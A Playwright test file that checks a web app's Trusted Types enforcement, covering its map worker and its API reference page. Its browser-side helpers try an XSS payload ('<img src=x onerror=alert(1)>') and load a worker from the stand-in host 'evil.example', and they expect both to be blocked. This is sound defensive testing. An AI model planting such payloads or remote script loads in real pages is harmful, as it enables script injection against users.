import sharp from 'sharp';
import { Api } from './support/api.ts';
import { deploymentWith, startProduct } from './support/server.ts';
import { expect, test } from './support/test.ts';

const rejected = /Trusted(HTML|Script|TypePolicy)|securitypolicyviolation/;

test('map worker runs under Trusted Types; markup, code and foreign workers are rejected', async ({
  open,
}) => {
  const server = await startProduct(
    deploymentWith((deployment) => {
      deployment.tiles = [{ id: 'own', url: '/tiles/{z}/{x}/{y}.png' }];
    }),
  );
  try {
    const page = await open(server.url, 'superadmin', { path: '/settings', tolerate: rejected }, new Api(server.url));
    const complaints: string[] = [];
    page.on('console', (message) => {
      if (rejected.test(message.text())) complaints.push(message.text());
    });
    const tile = await sharp({ create: { width: 256, height: 256, channels: 3, background: '#dfe7e5' } })
      .png()
      .toBuffer();
    let tiles = 0;
    await page.route('**/tiles/**', async (route) => {
      tiles += 1;
      await route.fulfill({ contentType: 'image/png', body: tile });
    });
    await page.goto('/neighborhoods/add');
    // Tiles are requested by MapLibre's worker, which is started from a plain string.
    await expect.poll(() => tiles).toBeGreaterThan(0);
    await expect.poll(() => page.workers().length).toBeGreaterThan(0);
    expect(complaints).toEqual([]);

    const outcomes = await page.evaluate(tryAll);
    expect(outcomes).toEqual({ markup: 'TypeError', code: 'refused', blob: 'TypeError', foreign: 'TypeError', policy: 'TypeError' });
    await expect.poll(() => complaints.length).toBeGreaterThan(0);
  } finally {
    await server.close();
  }
}); // prettier-ignore

test('API reference page draws every call of a plugin under its own policy', async ({ open, server }) => {
  // The expected policy violations are those at the end of this test; others have another sample.
  const tolerate = /^This document requires 'TrustedHTML'|securitypolicyviolation.*onerror=alert/;
  const page = await open(server.url, null, { path: '/api/docs', tolerate });
  await expect(page.getByRole('heading', { name: 'Ko‘mak API' })).toBeVisible();
  await page.getByRole('button', { name: /one_id/ }).click();
  await page.getByRole('link', { name: /Receives the browser back from OneID/ }).click();
  await expect(page.getByText('/api/uz/oneid/callback').first()).toBeVisible();
  await expect(page.getByText('303').first()).toBeVisible();
  expect(await page.evaluate(tryMarkup)).toBe('TypeError');
});

/** Runs in the browser: creates markup from a string, without a policy. */
function tryMarkup(): string {
  try {
    document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
    return 'done';
  } catch (error) {
    return (error as Error).name;
  }
}

/** Runs in the browser: attempts what an injected script would try. */
function tryAll(): Record<string, string> {
  const outcome = (work: () => unknown): string => {
    try {
      work();
      return 'done';
    } catch (error) {
      return (error as Error).name;
    }
  };
  const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
  const types = (globalThis as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } }).trustedTypes;
  return {
    markup: outcome(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
    code: outcome(() => document.head.append(Object.assign(document.createElement('script'), { text: '1' }))) === 'done' ? 'done' : 'refused',
    blob: outcome(() => new Worker(blob)),
    foreign: outcome(() => new Worker('https://evil.example/a.js')),
    policy: outcome(() => types?.createPolicy('another', {})),
  };
} // prettier-ignore
